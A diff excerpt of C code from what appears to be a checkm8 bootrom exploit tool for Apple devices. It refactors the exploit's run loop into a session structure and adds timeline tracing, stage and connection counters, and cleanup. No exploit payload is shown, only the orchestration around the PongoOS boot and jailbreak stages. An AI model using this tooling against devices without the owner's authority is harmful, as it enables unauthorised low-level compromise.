                     double timeTaken = (end.tv_sec - start.tv_sec) + (end.tv_nsec - start.tv_nsec) / 1e9;
                     LOG(LOG_SUCCESS, "Successfully booted PongoOS in %.2f seconds", timeTaken);
                 }
-                stage = (getArgumentByName("Jailbreak")->boolVal) ? STAGE_JAILBREAK : STAGE_DONE;
+                session.stage = (getArgumentByName("Jailbreak")->boolVal) ? STAGE_JAILBREAK : STAGE_DONE;
                 stageForLogging = STAGE_PONGO;
             } else {
                 extern void jailbreakBoot(usb_handle_t *handle);
                 jailbreakBoot(&device.handle);
-                stage = STAGE_DONE;
+                session.stage = STAGE_DONE;
                 stageForLogging = STAGE_JAILBREAK;
             }
+            endTimelineSpan(span);
+            checkm8LastResult.stages++;
+            if (!ret && stageForLogging != STAGE_JAILBREAK && checkm8LastResult.failedStage == STAGE_DONE) {
+                checkm8LastResult.failedStage = stageForLogging;
+            }
 
             if (ret && stageForLogging != STAGE_PONGO && stageForLogging != STAGE_JAILBREAK) {
                 LOG(LOG_VERBOSE, "%s completed successfully", stageToString(stageForLogging));
             } else if (stageForLogging != STAGE_PONGO && stageForLogging != STAGE_JAILBREAK) {
                 LOG(LOG_ERROR, "%s failed", stageToString(stageForLogging));
-                if (stage != STAGE_PATCH && stage != STAGE_DONE) {
-                    stage = STAGE_RESET;
+                if (session.stage != STAGE_PATCH && session.stage != STAGE_DONE) {
+                    session.stage = STAGE_RESET;
                 } else {
-                    stage = STAGE_DONE;
+                    session.stage = STAGE_DONE;
                 }
             }
-            resetUSBHandle(&device.handle);
+            checkm8SessionReset(&session);
+        } else {
+            checkm8SessionDisconnect(&session);
         }
-           
-        closeUSBHandle(&device.handle);
     }
+    checkm8SessionDisconnect(&session);
+    endTimelineSpan(runSpan);
+    LOG(LOG_DEBUG, "Opened the device %u times during the exploit", session.connections);
+    checkm8LastResult.connections = session.connections;
+    free(session.serial);
+    exitRealtimeMode(&realtimeState);
+    saveAbortModel(&abortModel);
+    LOG(LOG_DEBUG, "USB requests made %zu allocations during the exploit", atomic_load(&usbRequestAllocations) - allocations);
+    int status = 0;
     if (!bootingPongoOS) {
-        if (!pwned) {
+        if (!session.pwned) {
             LOG(LOG_ERROR, "Exploit failed"); 
-            return -1;
+            status = -1;
+        } else {
+            clock_gettime(CLOCK_MONOTONIC, &end);
+            double timeTaken = (end.tv_sec - start.tv_sec) + (end.tv_nsec - start.tv_nsec) / 1e9;
+            LOG(LOG_SUCCESS, "Exploit succeeded");
+            LOG(LOG_INFO, "Exploited in %.2f seconds", timeTaken);
+            if (finalSerial != NULL && strcmp(finalSerial, "(null)") != 0) { LOG(LOG_VERBOSE, "Serial number: %s", finalSerial); }
         }
-        clock_gettime(CLOCK_MONOTONIC, &end);
-        double timeTaken = (end.tv_sec - start.tv_sec) + (end.tv_nsec - start.tv_nsec) / 1e9;
-        LOG(LOG_SUCCESS, "Exploit succeeded");
-        LOG(LOG_INFO, "Exploited in %.2f seconds", timeTaken);
-        if (strcmp(finalSerial, "(null)") != 0) { LOG(LOG_VERBOSE, "Serial number: %s", finalSerial); }
     }
-    return 0;
+    free(finalSerial);
+    return status;
+}
+
+int checkm8()
+{
+    int ret = checkm8Run();
+    // Failed runs are the ones worth looking at, so the timeline is written on every exit
+    if (getArgumentByName("Timeline")->set) {
+        writeTimeline(getArgumentByName("Timeline")->stringVal);
+    }
+    return ret;
 }
\ No newline at end of file